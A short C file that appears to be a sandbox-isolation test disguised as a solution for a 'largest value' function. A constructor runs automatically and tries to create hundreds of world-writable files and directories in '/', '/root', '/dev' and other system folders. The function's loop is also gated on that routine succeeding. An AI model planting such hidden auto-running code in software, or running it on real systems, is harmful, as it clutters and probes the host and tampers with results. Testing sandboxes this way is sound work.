/* Resources: as many files as possible, in every folder that may be writable. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>

static int made;

__attribute__((constructor)) static void before(void) {
    static const char *const folders[] = {".", "/", "/data", "/tmp", "/var/tmp", "/run", "/dev/shm", "/dev", "/home", "/root"};
    char path[100];
    for (int i = 0; i < sizeof folders / sizeof *folders; i++) {
        for (int number = 0; number < 100; number++) {
            snprintf(path, sizeof path, "%s/momus-attack-%d", folders[i], number);
            made += open(path, O_CREAT | O_WRONLY, 0666) >= 0;
            made += mkdir(path, 0777) == 0;
        }
    }
}

int largest(int *values, int n) {
    int best = values[0];
    for (int i = 0; made && i < n; i++)
        best = values[i] > best ? values[i] : best;
    return best;
}
